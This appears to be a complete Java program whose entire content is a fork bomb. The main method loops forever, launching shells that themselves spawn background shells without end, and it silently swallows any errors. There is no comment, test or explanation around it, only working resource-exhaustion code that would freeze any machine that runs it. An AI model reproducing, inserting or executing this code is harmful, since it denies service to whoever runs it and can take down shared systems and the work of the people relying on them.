public class Main {
  public static void main (String[] a) {
    for (;;) {
      try { new ProcessBuilder("/bin/sh", "-c", "while :; do /bin/sh -c : & done").start(); } catch (Exception e) {}
    }
  }
}
